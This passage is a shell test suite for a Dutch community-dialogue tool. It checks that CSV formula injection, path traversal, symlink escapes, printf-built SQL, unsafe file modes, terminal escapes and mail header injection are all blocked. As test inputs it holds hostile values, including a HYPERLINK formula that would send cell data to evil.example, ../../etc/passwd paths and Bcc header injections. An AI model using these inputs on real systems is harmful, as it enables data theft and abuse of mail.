#!/bin/sh
test_description='security: CSV formulas, paths that lead out, SQL, file modes, control characters, mail headers, HTML, ics, contacts, open data'
#
# What a hostile or careless input must not do: run a formula in a
# spreadsheet, reach a file outside the workspace, get into SQL, leave a
# file readable by the wrong people, write to a terminal raw, add a
# header to a mail, run a script in an HTML page (summary --format html,
# letters), add a property to an iCalendar file, or show a name or
# contact data where it does not belong.
#
# Adding a command: add it to the lists below (ids and paths it takes,
# names it echoes, files it makes and their modes, its CSV and HTML
# output, the reports that must name nobody).  A bug a test finds gets a
# switch in "Known bugs" below: the test is skipped, naming the bug,
# until it is fixed.
. ./test-lib.sh
. "$TEST_DIRECTORY/lib-invite-send.sh"

WD_NOW=2027-01-05T09:30 WD_USER=tester WD_TEST_SEED=5
export WD_NOW WD_USER WD_TEST_SEED

# Known bugs: the test of each is written, and skipped with the bug named
# while its switch is 1; set it to 0 once the bug is fixed.
#  CSV_TRIM_BUG          lib/csvio.c on_field() trims blanks off every
#                        field, also a quoted one, and wd_csv_field()
#                        (lib/out.c) does not quote a value that starts
#                        or ends with a blank: "  x  " comes back as "x"
#  MAIL_LOOKALIKE_BUG    lib/mail.c mailbox() and headers() hand ASCII text
#                        that looks like an RFC 2047 encoded-word
#                        ("=?UTF-8?B?...?=") to GMime as it is, so a mail
#                        program decodes it: a person named
#                        =?UTF-8?B?QmNjOiB4QGV4YW1wbGUub3Jn?= is shown as
#                        "Bcc: x@example.org"
#  TEMPLATE_DIR_BUG      wd_ws_shared() (lib/ws.c), which load_tpl()
#                        (lib/send.c) asks for a template, follows a
#                        templates/ or templates/LANG/ folder that is a
#                        symbolic link out of the workspace (wd_read_file()
#                        refuses only a link as the last part of the
#                        path): whatever file it leads to is mailed or
#                        printed in a letter
CSV_TRIM_BUG=0
MAIL_LOOKALIKE_BUG=0
TEMPLATE_DIR_BUG=0

# known_bug SWITCH TITLE BUG BODY: the test, or its skip naming the bug
known_bug() {
	if test "$1" = 1
	then
		test_skip "$2" "known bug: $3"
	else
		test_expect_success "$2" "$4"
	fi
}

# yset.py FILE KEY JSON: the first line "KEY: ..." of FILE (KEY with its
# indentation) gets the value JSON (a JSON string, so that it can hold
# any character), written as a YAML double-quoted scalar
cat >yset.py <<\EOF
import json, sys
path, key, value = sys.argv[1], sys.argv[2], json.loads(sys.argv[3])
lines = open(path, encoding="utf-8").read().split("\n")
for i, line in enumerate(lines):
    if line.startswith(key + ": "):
        lines[i] = key + ": " + json.dumps(value, ensure_ascii=False)
        break
else:
    sys.exit("no %r in %s" % (key, path))
open(path, "w", encoding="utf-8").write("\n".join(lines))
EOF

# --- CSV formula neutralisation and exact re-import ---

texts='=SUM(A1:A9)
+31 6 1234 5678
-5 graden
@home
'"'"'=al met apostrof
'"''"'+twee apostrofs
gewoon, met "quotes" en een ; puntkomma
=HYPERLINK("http://evil.example/?"&A1,"klik")'

test_expect_success 'CSV: formula triggers are neutralised with one apostrophe' '
	test_example_workspace &&
	printf "%s\n" "$texts" | wd-harvest -q -C ws add -d oost --source formules --kind droom - &&
	wd-harvest -q -C ws add -d oost --source formules --kind droom \
		"$(printf "\tmet een tab vooraan")" &&
	wd-harvest -q -C ws add -d oost --source formules --kind actie \
		--need "=1+1 verf" --tag "=tag" --owner anna -- "-1 actie" &&
	wd-harvest -C ws list -d oost --format csv >out.csv &&
	# no cell (outside quotes) starts with = + - @ or a tab
	awk -F, "NR > 1 { for (i = 1; i <= NF; i++) if (\$i ~ /^[=+@\t-]/) { print; bad = 1 } } END { exit bad }" out.csv &&
	test_grep ",'"'"'=SUM(A1:A9)," out.csv &&
	test_grep ",'"'"''"'"'=al met apostrof," out.csv &&
	test_grep ",'"'"'	met een tab vooraan," out.csv &&
	test_grep ",\"'"'"'=HYPERLINK(\"\"http" out.csv
'

# the items of a dialogue as JSON, without what an import makes anew
items_json() {
	wd-harvest -C "$1" list -d oost --format json |
	python3 -c "
import json, sys
rows = json.load(sys.stdin)
keep = ('source', 'kind', 'phase', 'text', 'by', 'role', 'table', 'tags',
        'owner', 'due', 'status', 'need', 'named')
print(json.dumps(sorted([{k: r.get(k) for k in keep} for r in rows],
                        key=lambda r: json.dumps(r, sort_keys=True)), indent=1,
                 sort_keys=True, ensure_ascii=False))"
}

test_expect_success 'CSV: list --format csv, imported elsewhere, gives exactly the same items' '
	test_example_workspace ws2 &&
	wd-harvest -q -C ws2 import -d oost "$TRASH_DIRECTORY/out.csv" &&
	items_json ws >a.json &&
	items_json ws2 >b.json &&
	test_cmp a.json b.json &&
	test_grep "\"text\": \"=SUM(A1:A9)\"" b.json &&
	test_grep "\"text\": \"'"'"'=al met apostrof\"" b.json
'

test_expect_success 'CSV: importing it again adds nothing' '
	test_tree_sum ws2 >before &&
	wd-harvest -C ws2 import -d oost "$TRASH_DIRECTORY/out.csv" 2>err &&
	test_grep "imported 0 item" err &&
	test_tree_sum ws2 >after &&
	test_cmp before after
'

# cells.py FILE...: every cell of every CSV file (RFC 4180, Python's csv
# module) that starts with a formula trigger; nothing when there is none
cat >cells.py <<\EOF
import csv, sys
for path in sys.argv[1:]:
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert len(rows) > 1, path
    for n, row in enumerate(rows[1:], 2):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                print("%s:%d: %r" % (path, n, cell))
EOF

test_expect_success 'CSV: every CSV output of every command neutralises formula triggers' '
	test_example_workspace trig &&
	wd-harvest -q -C trig add -d oost --kind actie --owner anna --tag "=tag" \
		--need "@nodig" --due 2027-01-01 -- "=1+1 actie" &&
	wd-harvest -q -C trig add -d oost --kind droom --tag "+plus" -- "-min droom" &&
	wd-harvest -q -C trig add -d lombok --kind citaat --by "=Iemand" --new-person \
		-- "@citaat" &&
	WD_NOW=2026-11-01T10:00 wd-invite -q -C trig add -d oost "=Formule Naam" \
		--organisation "+31 org" --note "-notitie" --phone "+31 6 1234 5678" \
		--address "@adres 1" --email formule@example.org &&
	wd-harvest -C trig list --format csv >harvest.csv &&
	wd-invite -C trig list -d oost --contacts --format csv >people.csv &&
	wd-report -C trig export --format csv >export.csv &&
	wd-report -C trig actions --format csv >actions.csv &&
	wd-report -C trig search --format csv actie >search.csv &&
	wd-report -C trig tags --format csv >tags.csv &&
	python3 cells.py harvest.csv people.csv export.csv actions.csv search.csv tags.csv >bad &&
	test_line_count = 0 bad &&
	test_grep "'"'"'=1+1 actie" harvest.csv &&
	test_grep "'"'"'=Formule Naam" people.csv &&
	test_grep "'"'"'+31 6 1234 5678" people.csv &&
	test_grep "'"'"'=1+1 actie" export.csv &&
	test_grep "'"'"'=1+1 actie" actions.csv &&
	test_grep "'"'"'=tag" tags.csv
'

test_expect_success 'CSV: people too: list --format csv imports again to the same people, here or elsewhere' '
	test_tree_sum trig >before &&
	wd-invite -C trig import -d oost "$TRASH_DIRECTORY/people.csv" 2>err &&
	test_grep "0 added, 0 updated" err &&
	test_tree_sum trig >after &&
	test_cmp before after &&
	wd-init -q -C trig nieuw --title N --theme t --start 2027-03-01T10:00 &&
	wd-invite -q -C trig import -d nieuw "$TRASH_DIRECTORY/people.csv" &&
	# what import takes (wd-invite(1): table, status, rsvp... are left alone)
	for d in oost nieuw
	do
		wd-invite -C trig list -d $d --contacts --format json |
		python3 -c "
import json, sys
keep = (\"id\", \"name\", \"role\", \"organisation\", \"lang\", \"email\", \"phone\",
        \"address\", \"host\", \"consent_contact\", \"consent_named\",
        \"consent_photo\", \"note\")
for p in json.load(sys.stdin):
    print(json.dumps({k: p[k] for k in keep}, ensure_ascii=False))" >$d.people ||
		return 1
	done &&
	test_cmp oost.people nieuw.people &&
	test_grep "\"name\": \"=Formule Naam\"" nieuw.people &&
	test_grep "\"address\": \"@adres 1\"" nieuw.people &&
	test_grep "\"note\": \"-notitie\"" nieuw.people
'

known_bug "$CSV_TRIM_BUG" \
	'CSV: a text with blanks at its start or end survives list --format csv | import' \
	'lib/csvio.c on_field() trims every field, quoted or not; lib/out.c wd_csv_field() does not quote them' '
	test_example_workspace blanks &&
	wd-harvest -q -C blanks add -d oost --source rand --kind droom \
		"  twee spaties voor en na  " &&
	wd-harvest -q -C blanks add -d oost --source rand --kind actie \
		--need " nodig " -- "$(printf "\teen tab voor, een na\t")" &&
	wd-harvest -C blanks list -d oost --format csv >blanks.csv &&
	test_example_workspace blanks2 &&
	wd-harvest -q -C blanks2 import -d oost "$TRASH_DIRECTORY/blanks.csv" &&
	items_json blanks >a.json &&
	items_json blanks2 >b.json &&
	test_cmp a.json b.json &&
	test_grep "\"text\": \"  twee spaties voor en na  \"" b.json &&
	test_grep "\"need\": \" nodig \"" b.json &&
	printf "soort,tekst\ndroom,\"  quoted  \"\n" >quoted.csv &&
	wd-harvest -q -C blanks2 import -d oost --source quoted "$TRASH_DIRECTORY/quoted.csv" &&
	test_grep "^    text: \"  quoted  \"$" blanks2/oost/harvest/quoted.yaml
'

# --- ids and paths that lead out of the workspace ---

test_expect_success 'ids with .., /, absolute paths are refused, nothing made outside' '
	test_example_workspace &&
	mkdir -p outside &&
	test_tree_sum ws >before && ls -a >>before &&
	for id in ../x /tmp/wd-escape a/b . .. .hidden "x y" "" oost/../y "$(printf "a\tb")"
	do
		test_must_fail wd-init -q -C ws "$id" --title T --theme t \
			--start 2027-01-01 2>err ||
		{ echo "wd-init made \"$id\""; return 1; }
	done &&
	test_must_fail wd-init -q -C ws nieuw --title T --theme t \
		--start 2027-01-01 --from ../oost &&
	test_must_fail wd-init -q -C ws nieuw --title T --theme t \
		--start 2027-01-01 --from /etc &&
	for d in ../ws/oost /tmp oost/../lombok ../outside "$TRASH_DIRECTORY/ws/oost" . ..
	do
		test_must_fail wd-harvest -q -C ws add -d "$d" --kind droom x 2>err &&
		test_must_fail wd-harvest -q -C ws list -d "$d" 2>err &&
		test_must_fail wd-invite -q -C ws add -d "$d" "Nieuwe Buur" 2>err &&
		test_must_fail wd-invite -q -C ws list -d "$d" 2>err &&
		test_must_fail wd-invite -q -C ws import -d lombok --from-dialogue "$d" 2>err &&
		test_must_fail wd-invite -q -C ws send -d "$d" --mbox ../x.mbox 2>err &&
		test_must_fail wd-invite -q -C ws ics -d "$d" 2>err &&
		test_must_fail wd-report -q -C ws summary -d "$d" 2>err ||
		{ echo "-d $d was taken"; return 1; }
	done &&
	for p in ../oost/anna-de-vries ../../etc/passwd /etc/passwd "anna-de-vries/../x"
	do
		test_expect_code 65 wd-invite -q -C ws rsvp -d oost "$p" yes 2>err &&
		test_expect_code 65 wd-invite -q -C ws show-person "$p" 2>err &&
		test_expect_code 65 wd-invite -q -C ws forget "$p" 2>err ||
		{ echo "person $p was taken"; return 1; }
	done &&
	! test -e x.mbox &&
	test_tree_sum ws >after && ls -a >>after &&
	test_cmp before after &&
	! test -e /tmp/wd-escape
'

test_expect_success 'a source with a path is only ever a name in harvest/' '
	test_example_workspace &&
	mkdir -p outside &&
	for s in ../../outside/x /tmp/wd-escape-src "..\\\\..\\\\x" ../people
	do
		wd-harvest -q -C ws add -d oost --source "$s" --kind droom "Bron $s" ||
		test $? = 65 || return 1
	done &&
	test "$(ls outside | wc -l)" = 0 &&
	! test -e /tmp/wd-escape-src.yaml &&
	test_grep "text: Bron ../../outside/x" ws/oost/harvest/x.yaml &&
	test_grep "text: Bron ../people" ws/oost/harvest/people.yaml &&
	wd-report -q -C ws check
'

test_expect_success 'a harvest file that is a symlink out is never read nor written' '
	test_example_workspace &&
	mkdir -p outside &&
	printf "items:\n  - id: geheim1\n    kind: dream\n    text: GEHEIM van buiten\n" >outside/t.yaml &&
	cp outside/t.yaml secret.orig &&
	ln -s ../../../outside/t.yaml ws/oost/harvest/lek.yaml &&
	test_expect_code 1 wd-report -C ws check >out &&
	test_grep "oost/harvest/lek.yaml.*symbolic link" out &&
	wd-report -q -C ws index 2>err &&
	test_must_fail wd-report -C ws search GEHEIM >out &&
	! grep GEHEIM out &&
	wd-harvest -C ws list --format csv >out &&
	! grep GEHEIM out &&
	test_expect_code 65 wd-harvest -q -C ws add -d oost --source lek --kind droom "Erin" 2>err &&
	test_grep "symbolic link" err &&
	test_cmp secret.orig outside/t.yaml
'

test_expect_success 'a harvest folder that is a symlink out is never read nor written' '
	test_example_workspace &&
	rm -rf outside && mkdir -p outside &&
	printf "items:\n  - id: geheim1\n    kind: dream\n    text: GEHEIM van buiten\n" >outside/t.yaml &&
	cp outside/t.yaml secret.orig &&
	mv ws/oost/harvest ws/oost/harvest.weg &&
	ln -s ../../outside ws/oost/harvest &&
	test_expect_code 1 wd-report -C ws check >out &&
	test_grep "^oost/harvest:.*symbolic link" out &&
	! grep GEHEIM out &&
	test_expect_code 65 wd-harvest -q -C ws add -d oost --source t --kind droom "Erin" 2>err &&
	test_grep "symbolic link" err &&
	test_expect_code 65 wd-harvest -q -C ws add -d oost --source nieuw --kind droom "Erin" &&
	wd-report -q -C ws index 2>err &&
	test_must_fail wd-report -C ws search GEHEIM &&
	test "$(ls outside)" = t.yaml &&
	test_cmp secret.orig outside/t.yaml
'

test_expect_success 'people.yaml and contacts.yaml that are symlinks out are refused' '
	test_example_workspace &&
	rm -rf outside && mkdir -p outside &&
	mv ws/lombok/people.yaml outside/people.yaml &&
	cp outside/people.yaml people.orig &&
	ln -s ../../outside/people.yaml ws/lombok/people.yaml &&
	printf "geheim:\n  email: geheim@example.org\n" >outside/contacts.yaml &&
	ln -s ../../outside/contacts.yaml ws/oost/contacts2.yaml &&
	ln -sf ../../outside/contacts.yaml ws/oost/contacts.yaml &&
	test_expect_code 1 wd-report -C ws check >out &&
	test_grep "lombok/people.yaml.*symbolic link" out &&
	test_grep "oost/contacts.yaml.*symbolic link" out &&
	test_must_fail wd-harvest -q -C ws add -d lombok --kind droom \
		--by "Nieuwe Buur" --new-person "Erin" &&
	test_cmp people.orig outside/people.yaml
'

test_expect_success 'a template that is a symlink out is refused, nothing sent' '
	invite_workspace tpl &&
	rm -rf outside && mkdir -p outside &&
	printf "Subject: geheim\n\nGEHEIM van buiten\n" >outside/invite.txt &&
	mkdir -p tpl/templates/nl &&
	ln -s ../../../outside/invite.txt tpl/templates/nl/invite.txt &&
	test_expect_code 65 env WD_NOW=2026-11-20T10:00 \
		wd-invite -C tpl send --mbox ../tpl.mbox anna 2>err &&
	test_grep "templates/nl/invite.txt.*symbolic link" err &&
	! test -e tpl.mbox
'

known_bug "$TEMPLATE_DIR_BUG" \
	'a templates folder that is a symlink out is refused, nothing sent or printed' \
	'lib/ws.c wd_ws_shared() follows a templates/ or templates/nl/ folder that links out of the workspace' '
	rm -rf outside && mkdir -p outside/t/nl &&
	printf "Subject: geheim\n\nGEHEIM van buiten\n" >outside/t/nl/invite.txt &&
	printf "<html><body>GEHEIM van buiten</body></html>\n" >outside/t/nl/letter.html &&
	for link in templates templates/nl
	do
		invite_workspace tpl &&
		case $link in
		templates) ln -s ../outside/t tpl/templates ;;
		*) mkdir -p tpl/templates &&
		   ln -s ../../outside/t/nl tpl/templates/nl ;;
		esac &&
		test -h tpl/$link &&
		rm -rf tpl.mbox tpl-letters &&
		test_must_fail env WD_NOW=2026-11-20T10:00 \
			wd-invite -C tpl send --mbox ../tpl.mbox anna 2>err &&
		test_grep "symbolic link" err &&
		test_must_fail env WD_NOW=2026-11-20T10:00 \
			wd-invite -C tpl send --channel letter --out ../tpl-letters ozlem 2>err &&
		! grep -r GEHEIM tpl.mbox tpl-letters 2>/dev/null ||
		{ echo "read through $link"; return 1; }
	done
'

test_expect_success 'a dialogue folder that is a symlink out is no dialogue' '
	test_example_workspace &&
	rm -rf outside && mkdir -p outside/weg/harvest &&
	cp ws/lombok/dialogue.yaml outside/weg/ &&
	printf "items:\n  - id: geheim1\n    kind: dream\n    text: GEHEIM van buiten\n" >outside/weg/harvest/t.yaml &&
	test_tree_sum outside >before &&
	ln -s ../outside/weg ws/weg &&
	wd-report -C ws check >out &&
	! grep -i "weg\|GEHEIM" out &&
	wd-report -q -C ws index &&
	test "$(sqlite3 ws/.wd/index.sqlite "SELECT count(*) FROM dialogues WHERE id = '\''weg'\''")" = 0 &&
	test_must_fail wd-report -C ws search GEHEIM &&
	test_expect_code 66 wd-harvest -q -C ws add -d weg --kind droom "Erin" &&
	test_expect_code 73 wd-init -q -C ws weg --title T --theme t --start 2027-01-01 &&
	test_must_fail wd-init -q -C ws nieuw --title T --theme t --start 2027-01-01 --from weg &&
	test_tree_sum outside >after &&
	test_cmp before after
'

# --- SQL only with bound parameters ---

test_expect_success 'the SQL checker finds SQL built with printf' '
	cat >bad.c <<-\EOF &&
	static int look(sqlite3 *db, const char *name)
	{
		char q[256];
		sqlite3_stmt *st;

		snprintf(q, sizeof(q), "SELECT * FROM person WHERE name = '"'"'%s'"'"'", name);
		return sqlite3_prepare_v2(db, q, -1, &st, NULL);
	}

	static int run_it(sqlite3 *db, const char *sql)
	{
		return sqlite3_exec(db, sql, NULL, NULL, NULL);
	}

	static int drop(sqlite3 *db, const char *table)
	{
		struct wd_buf b = WD_BUF_INIT(0);

		wd_buf_addf(&b, "DROP TABLE %s", table);
		return run_it(db, b.ptr);
	}

	static int bound(sqlite3 *db, const char *name)
	{
		static const char sql[] = "SELECT 1 FROM person WHERE name = ?";
		sqlite3_stmt *st;

		return sqlite3_prepare_v2(db, sql, -1, &st, NULL) ||
		       sqlite3_bind_text(st, 1, name, -1, NULL);
	}
	EOF
	test_expect_code 1 perl "$TEST_DIRECTORY/lint/sql-params.pl" bad.c >out &&
	test_grep "^bad.c:7: look: SQL in .q. is built with printf" out &&
	test_grep "^bad.c:20: drop: SQL in .b. is built with printf" out &&
	test_line_count = 2 out
'

test_expect_success 'SQL is built only from constants in lib/ and cmd/ (user data bound)' '
	(cd "$TEST_DIRECTORY/.." && perl tests/lint/sql-params.pl lib/*.c cmd/*.c)
'

# --- file modes ---

mode() {
	stat -c %a "$1"
}

test_expect_success 'files and folders are made as the umask says, .wd private' '
	mkdir neu && (cd neu && umask 022 && wd-init -q) &&
	test $(mode neu/wd.yaml) = 644 &&
	test $(mode neu/.gitignore) = 644 &&
	(umask 022 && wd-init -q -C neu d --title T --theme t --start 2027-01-01) &&
	test $(mode neu/d) = 755 &&
	test $(mode neu/d/dialogue.yaml) = 644 &&
	test $(mode neu/.wd) = 700 &&
	test $(mode neu/.wd/lock) = 600 &&
	(umask 022 && wd-harvest -q -C neu add -d d --kind droom --by "Nieuwe Buur" \
		--new-person "Een droom") &&
	test $(mode neu/d/harvest) = 755 &&
	test $(mode neu/d/harvest/tester.yaml) = 644 &&
	test $(mode neu/d/people.yaml) = 644 &&
	(umask 022 && wd-report -q -C neu index) &&
	test $(mode neu/.wd) = 700
'

test_expect_success 'under umask 077 nothing new is readable by others' '
	(umask 077 && wd-init -q -C neu p --title P --theme t --start 2027-01-01 &&
	 wd-harvest -q -C neu add -d p --kind droom --by "Privé Persoon" \
		--new-person "Een droom") &&
	test $(mode neu/p) = 700 &&
	test $(mode neu/p/dialogue.yaml) = 600 &&
	test $(mode neu/p/harvest) = 700 &&
	test $(mode neu/p/harvest/tester.yaml) = 600 &&
	test $(mode neu/p/people.yaml) = 600
'

test_expect_success 'a rewrite keeps the mode a file has, whatever the umask' '
	chmod 600 neu/d/harvest/tester.yaml &&
	chmod 640 neu/d/dialogue.yaml &&
	(umask 077 && wd-harvest -q -C neu add -d d --kind droom "Nog een droom") &&
	test $(mode neu/d/harvest/tester.yaml) = 600 &&
	(umask 077 && wd-init -q -C neu e --title E --theme t --start 2027-02-01 --from d) &&
	test $(mode neu/d/dialogue.yaml) = 640 &&
	test_grep "^    - e$" neu/d/dialogue.yaml &&
	chmod 644 neu/d/people.yaml &&
	(umask 077 && wd-harvest -q -C neu add -d d --kind droom --by "Nog Iemand" \
		--new-person "Een derde droom") &&
	test $(mode neu/d/people.yaml) = 644
'

# --- control characters never reach a terminal raw ---

# raw: whether a file has a control character other than tab and newline
raw() {
	LC_ALL=C tr -d "\t\n" <"$1" | LC_ALL=C grep -q "[[:cntrl:]]"
}

# commands given names with control characters ($esc: clear the screen,
# set the window title), one per line
cat >runs <<\EOF
wd-init -C ws "x$esc" --title T --theme t --start 2027-01-01
wd-init -C ws x --title "T$esc" --theme t --start 2027-01-01
wd-init -C ws x --title T --theme t --start "2027$esc"
wd-init -C ws x --title T --theme t --start 2027-01-01 --from "o$esc"
wd-harvest -C ws add -d "oost$esc" --kind droom x
wd-harvest -C ws add -d oost --kind "dro$esc" x
wd-harvest -C ws add -d oost --kind droom "tekst$esc"
wd-harvest -C ws add -d oost --kind droom --by "A$esc" x
wd-harvest -C ws add -d oost --kind droom --tag "t$esc" x
wd-harvest -C ws add -d oost --kind droom --due "2027$esc" x
wd-harvest -C ws set r2h6j9s --status "$esc"
wd-harvest -C ws set r2h6j9s --note "n$esc"
wd-harvest -C ws set "x$esc" --note n
wd-harvest -C ws list --kind "k$esc"
wd-harvest -C ws import -d oost "/nonexistent/f$esc.csv"
wd-report -C "ws$esc" check
wd-report -C ws search "a$esc\""
EOF

test_expect_success 'names with control characters are escaped in every message' '
	test_example_workspace &&
	test_tree_sum ws >before &&
	esc=$(printf "\033[2J\033]0;pwned\007") &&
	while read -r run
	do
		eval "$run" >out 2>err
		ret=$?
		if test $ret -eq 0 || test $ret -gt 78
		then
			echo "exit $ret: $run" && return 1
		fi
		if raw out || raw err
		then
			echo "raw control characters from: $run" && cat -A err && return 1
		fi
	done <runs &&
	test_tree_sum ws >after &&
	test_cmp before after
'

test_expect_success 'a file name or a value with control characters is escaped by check' '
	test_example_workspace &&
	printf "items: [\n" >"ws/oost/harvest/$(printf "x\033[31my").yaml" &&
	printf "title: \"a\\\\x1B[31m\"\nstart: 2027-01-01\n" >ws/lombok/dialogue.yaml &&
	test_expect_code 1 wd-report -C ws check >out 2>err &&
	! raw out && ! raw err &&
	test_grep "x\\\\x1b\\[31my.yaml" out &&
	test_grep "control character U+001B" out
'

# --- mail: no header injection, headers encoded (wd-invite send) ---

# sendmail.sh: a WD_SENDMAIL that keeps each message it gets in sent/N.eml
# (wd-invite send --sendmail runs "sendmail -t" by default, which takes
# the recipients from the headers: the way an injected Bcc would work)
cat >sendmail.sh <<EOF
#!/bin/sh
mkdir -p "$TRASH_DIRECTORY/sent" &&
n=\$(ls "$TRASH_DIRECTORY/sent" | wc -l) &&
cat >"$TRASH_DIRECTORY/sent/\$((n + 1)).eml"
EOF
chmod +x sendmail.sh

# mail.py FILE...: every message in the mboxes and .eml files, with the
# headers a message has and nothing else; the To of each one address;
# every header line ASCII and no longer than 998, no CR (LF ends), no header
# line starting with a header name wd-invite does not write.  Prints
# "display name <address>" (decoded as RFC 2047 says) and the subject of
# each message.
cat >mail.py <<\EOF
import email, email.header, email.policy, email.utils, mailbox, re, sys
KEYS = ["Content-Type", "Date", "From", "MIME-Version", "Message-Id",
        "Subject", "To"]
def decode(s):
    return str(email.header.make_header(email.header.decode_header(s)))
raws = []
for path in sys.argv[1:]:
    if path.endswith(".eml"):
        raws.append(open(path, "rb").read())
    else:
        box = mailbox.mbox(path, create=False)
        raws += [box.get_bytes(k) for k in box.keys()]
assert raws, "no messages"
for raw in raws:
    head = raw.split(b"\n\n", 1)[0]
    if head.startswith(b"From "):
        head = head.split(b"\n", 1)[1]
    assert b"\r" not in head, head
    for line in head.split(b"\n"):
        assert max(line) < 0x80, line
        assert len(line) <= 998, line
        if line[:1] not in (b" ", b"\t"):
            assert line.split(b":")[0].decode() in KEYS + ["Auto-Submitted"], line
    m = email.message_from_bytes(raw, policy=email.policy.compat32)
    keys = sorted(k for k in m.keys() if k != "Auto-Submitted")
    assert keys == KEYS, keys
    to = email.utils.getaddresses(m.get_all("To"))
    assert len(to) == 1, to
    modern = email.message_from_bytes(raw, policy=email.policy.default)
    assert len(modern["To"].addresses) == 1, modern["To"]
    assert modern["To"].addresses[0].addr_spec == to[0][1]
    # unfolded (RFC 5322 2.2.3), then decoded
    unfold = lambda s: re.sub(r"\r?\n(?=[ \t])", "", s)
    print("%s <%s>" % (decode(unfold(to[0][0])), to[0][1]))
    print("Subject: " + decode(unfold(m["Subject"])))
EOF

test_expect_success 'mail: CR/LF in a name or address is refused when it comes in, nothing written' '
	invite_workspace mail &&
	test_tree_sum mail >before &&
	for name in "Evil\r\nBcc: x@example.org" "Evil\nBcc: x@example.org" \
		"Evil\rBcc: x@example.org" "Evil\r\n\r\nbody"
	do
		test_expect_code 64 wd-invite -C mail add "$(printf "$name")" \
			--email evil@example.org --consent contact 2>err &&
		test_expect_code 64 wd-invite -C mail checkin --new "$(printf "$name")" ||
		return 1
	done &&
	for addr in "e@example.org\r\nBcc: x@example.org" "e@example.org\nBcc: x@example.org" \
		"e@example.org, x@example.org" "Evil <x@example.org>" "e@example.org>" \
		"e@example.org;x@example.org" "<e@example.org>"
	do
		test_expect_code 64 wd-invite -C mail add Evil --consent contact \
			--email "$(printf "$addr")" 2>err ||
		{ echo "took the address $addr"; return 1; }
	done &&
	printf "naam,e-mail,toestemming_contact\r\n\"Evil\r\nBcc: x@example.org\",evil@example.org,ja\r\n" >name.csv &&
	test_expect_code 65 wd-invite -C mail import "$TRASH_DIRECTORY/name.csv" 2>err &&
	test_grep "name.csv.:2:1:" err &&
	printf "naam,e-mail,toestemming_contact\r\nEvil,\"evil@example.org\r\nBcc: x@example.org\",ja\r\n" >addr.csv &&
	test_expect_code 65 wd-invite -C mail import "$TRASH_DIRECTORY/addr.csv" 2>err &&
	test_grep "addr.csv.:2:2:" err &&
	test_tree_sum mail >after &&
	test_cmp before after
'

test_expect_success 'mail: CR/LF that got into the files by hand cannot add a header either' '
	rm -rf hand sent && cp -R mail hand &&
	cat >>hand/oost/people.yaml <<-\EOF &&
	  - id: evil
	    name: Evil
	    consent:
	      contact: 2026-11-01
	EOF
	cp hand/oost/contacts.yaml contacts.orig &&
	# an address with a line break, or two addresses, in contacts.yaml
	for addr in "e@example.org\\r\\nBcc: x@example.org" "e@example.org\\nBcc: x@example.org" \
		"e@example.org, x@example.org" "Evil <x@example.org>" "x@example.org (Bcc: y@example.org)"
	do
		cp contacts.orig hand/oost/contacts.yaml &&
		printf "  evil:\n    email: x\n" >>hand/oost/contacts.yaml &&
		python3 yset.py hand/oost/contacts.yaml "    email" "\"$addr\"" &&
		test_expect_code 65 env WD_NOW=2026-11-20T10:00 \
			WD_SENDMAIL="$TRASH_DIRECTORY/sendmail.sh" \
			wd-invite -C hand send --sendmail evil 2>err ||
		{ echo "sent to $addr"; return 1; }
	done &&
	! test -d sent &&
	cp contacts.orig hand/oost/contacts.yaml &&
	# a sender address with a line break in wd.yaml: bad configuration
	python3 yset.py hand/wd.yaml "  email" "\"buurtteam@example.org\\r\\nBcc: x@example.org\"" &&
	test_grep "Bcc" hand/wd.yaml &&
	test_expect_code 78 env WD_NOW=2026-11-20T10:00 WD_SENDMAIL="$TRASH_DIRECTORY/sendmail.sh" \
		wd-invite -C hand send --sendmail 2>err &&
	! test -d sent
'

test_expect_success 'mail: line breaks in every value a subject or name can hold become spaces (sendmail -t and mbox)' '
	rm -rf sent subj && cp -R mail subj &&
	# every value of the dialogue and the workspace in the subject
	mkdir -p subj/templates/nl &&
	printf "Subject: {{title}}|{{theme}}|{{venue}}|{{place}}|{{question}}|{{hosts}}|{{organisation}}|{{sender}}|{{name}}\n\nBeste {{name}},\n" \
		>subj/templates/nl/invite.txt &&
	python3 yset.py subj/oost/dialogue.yaml venue "\"Zaal\\r\\nBcc: x@example.org\\r\\n\\r\\nHallo\"" &&
	python3 yset.py subj/oost/dialogue.yaml question "\"Vraag\\nBcc: q@example.org\\n\\nHallo\"" &&
	python3 yset.py subj/oost/dialogue.yaml theme "\"Thema\\u2028Cc: y@example.org\\u0085Hallo\"" &&
	python3 yset.py subj/oost/dialogue.yaml title "\"Titel\\tBcc: t@example.org\"" &&
	python3 yset.py subj/oost/dialogue.yaml place "\"Plek\\u2029Bcc: p@example.org\"" &&
	python3 yset.py subj/wd.yaml organisation "\"Org\\tBcc: o@example.org\"" &&
	python3 yset.py subj/wd.yaml "  name" "\"Afzender\\u2028Bcc: s@example.org\"" &&
	cat >>subj/oost/people.yaml <<-\EOF &&
	  - id: evil
	    name: "Evil\tBcc: n@example.org\u2029Cc: m@example.org\u0085To: k@example.org"
	    consent:
	      contact: 2026-11-01
	EOF
	printf "  evil:\n    email: evil@example.org\n" >>subj/oost/contacts.yaml &&
	wd-report -C subj check &&
	WD_NOW=2026-11-20T10:00 WD_SENDMAIL="$TRASH_DIRECTORY/sendmail.sh" \
		wd-invite -C subj -q send --sendmail evil anna &&
	WD_NOW=2026-11-20T10:00 wd-invite -C subj -q send --again --mbox ../subj.mbox evil anna &&
	test "$(ls sent | wc -l)" = 2 &&
	python3 mail.py sent/1.eml sent/2.eml subj.mbox >out &&
	cat out &&
	test_line_count = 8 out &&
	test "$(grep -c "^Subject: Titel Bcc: t@example.org|Thema Cc: y@example.org Hallo|Zaal  Bcc: x@example.org    Hallo|Plek Bcc: p@example.org|Vraag Bcc: q@example.org  Hallo|Anna de Vries|Org Bcc: o@example.org|Afzender Bcc: s@example.org|" out)" = 4 &&
	test "$(grep -c "^Evil Bcc: n@example.org Cc: m@example.org To: k@example.org <evil@example.org>$" out)" = 2 &&
	test "$(grep -c "^Anna de Vries <anna@example.org>$" out)" = 2
'

test_expect_success 'mail: names and subjects in UTF-8 are RFC 2047 encoded, and decode to exactly what they were' '
	invite_workspace utf &&
	python3 yset.py utf/oost/dialogue.yaml title \
		"\"Één tafel, één buurt: café \\\"De Ünie\\\" – elkaar zien in Oost-Zuid, ’s avonds\"" &&
	i=0 &&
	for name in "Zoë van ’t Hek" "Jansen, Piet <boos@example.org>" \
